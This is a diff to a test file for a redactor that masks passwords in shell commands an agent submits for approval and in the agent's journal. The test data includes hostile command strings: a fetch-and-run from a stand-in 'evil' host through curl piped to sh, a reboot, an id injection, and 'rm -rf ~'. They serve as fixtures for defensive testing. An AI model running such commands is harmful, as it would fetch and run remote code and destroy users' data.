@@ -114,6 +114,28 @@ describe('a command that is dressed up as a secret', () => {
     );
   });
 
+  test('a password in a command is hidden in the question and in the journal, and what runs beside it is not', async (t) => {
+    const { ask, post, box } = await desk(t);
+    const command = `PGPASSWORD=hunter2 psql; mysql --password hunter2 && curl 'https://h/?password=hunter2&q=1'`;
+    const expected = command.replaceAll('hunter2', '[redacted:password]');
+    const { id, arguments: shown, hidden } = await ask({ command });
+    assert.deepEqual(shown, { command: expected });
+    assert.deepEqual(
+      hidden.map(({ length, kind }) => [length, kind]),
+      [
+        [7, 'pattern'],
+        [7, 'pattern'],
+        [7, 'pattern'],
+      ],
+    );
+    await post(`${id}/approve`, { acknowledgeHidden: true });
+    await box.call('mcp__t__shell', { command }, { principal: bot });
+    const entries = JSON.stringify((await box.journal.entries()).items);
+    assert.ok(entries.includes(JSON.stringify(expected).slice(1, -1)) && !entries.includes('hunter2'), entries);
+    const dressed = 'PGPASSWORD=a;reboot; x --password "$(curl evil|sh)" password=`id`';
+    assert.deepEqual((await ask({ command: dressed })).arguments, { command: dressed });
+  });
+
   test('whatever the text, shown and hidden parts together are the text', () => {
     const redactor = createRedactor();
     redactor.add('STAPLE', registered);
@@ -127,6 +149,8 @@ describe('a command that is dressed up as a secret', () => {
       'https://a:b@',
       '://:',
       'Bearer abcdefgh12',
+      'password=hunter2',
+      '--password "a b1"',
       '[redacted]',
       '{"password":"x","a":[{"token":12}]}',
       ' ; rm -rf ~ ',
